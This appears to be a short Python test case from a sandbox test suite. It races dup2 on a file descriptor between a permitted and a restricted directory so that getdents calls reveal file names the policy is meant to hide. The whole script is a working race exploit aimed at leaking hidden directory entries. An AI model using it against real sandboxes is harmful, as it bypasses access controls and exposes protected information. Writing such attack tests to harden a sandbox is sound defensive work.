# SPDX-License-Identifier: Apache-2.0
# attack: a directory with hidden names, put by another thread under the number that is being listed
# class: race
# wins: leak
# needs: race
# policy: read: ["%A/box1"] ;; hide: ["%A/box1/name-*"]
from kit import *

plain, rich = openat(BOX + '/a', os.O_DIRECTORY), openat(OUT, os.O_DIRECTORY)
os.dup2(plain, 50)
buffer = ctypes.create_string_buffer(32768)
tried()


def swap():
    sc('dup2', rich, 50)
    sc('lseek', rich, 0, 0)
    sc('dup2', plain, 50)


def look(i):
    n = sc('getdents64' if i % 2 else 'getdents', 50, buffer, 32768)
    if n > 0 and b'name-' in buffer.raw[:n]:
        os.write(1, buffer.raw[:n])
        return True
    if i % 4 == 0:
        sc('lseek', 50, 0, 0)
    return False


end = loop_thread(swap)
rounds(look)
end()
